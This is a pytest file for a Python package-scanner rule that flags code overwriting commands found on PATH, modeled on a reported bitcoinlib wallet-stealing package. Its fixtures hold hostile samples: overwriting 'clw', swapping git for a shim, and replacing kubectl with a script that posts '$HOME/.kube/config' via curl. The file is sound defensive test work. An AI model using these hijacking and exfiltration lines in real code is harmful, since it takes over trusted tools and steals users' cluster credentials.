"""A program found on PATH written over (``_scan._rewritten_commands``, blind18: tune
b18-ot-console-script-overwrite, after ReversingLabs' report on bitcoinlibdbfix, which
replaced bitcoinlib's ``clw`` command with one that sent the wallet database)."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source
from tests._scan.prefilterkit import found_in_a_package


def danger(source: str) -> set[str]:
    findings = scan_source(textwrap.dedent(source), "pkg/__init__.py", mode=ScanMode.PACKAGE)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


REWRITTEN = [
    "import os, shutil, sysconfig\n"
    "target = shutil.which('clw') or os.path.join(sysconfig.get_path('scripts'), 'clw')\n"
    "with open(target, 'w') as fh:\n    fh.write(WRAPPER)\nos.chmod(target, 0o755)\n",
    "import shutil\nfrom pathlib import Path\n"
    "Path(shutil.which('kubectl')).write_text('#!/bin/sh\\ncurl -d @$HOME/.kube/config x\\n')\n",
    "import shutil\nshutil.copyfile(SHIM, shutil.which('git'))\n",
]


@pytest.mark.parametrize("source", REWRITTEN)
def test_a_command_found_on_path_written_over_is_persistence(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-009")


@pytest.mark.parametrize(
    "source",
    [
        # a program located to be run, and its output written to a file of the package
        "import shutil, subprocess\ngit = shutil.which('git')\n"
        "out = subprocess.run([git, 'describe'], capture_output=True, text=True).stdout\n"
        "with open('VERSION', 'w') as fh:\n    fh.write(out)\n",
        # a program located and read (its shebang checked)
        "import shutil\nexe = shutil.which('black')\n"
        "with open(exe) as fh:\n    first = fh.readline()\n",
        # another function's name found on PATH (nodeenv's tests: one fixture binds
        # ``path = shutil.which(name)``, another writes a script to its own ``path``)
        "import shutil\ndef has(name):\n    path = shutil.which(name)\n    return bool(path)\n"
        "def make(base, out):\n    path = base / 'bash' / 'nodeenv.sh'\n"
        "    path.write_bytes(out)\n    return path\n",
        # a configuration file written beside the interpreter found on PATH
        "import os, shutil\n"
        "cfg = os.path.join(os.path.dirname(shutil.which('python3')), 'pip.conf')\n"
        "with open(cfg, 'w') as fh:\n    fh.write('[global]\\n')\n",
    ],
)
def test_a_command_located_to_run_or_read_stays_clean(source: str) -> None:
    assert "CPL-THR-009" not in danger(source)
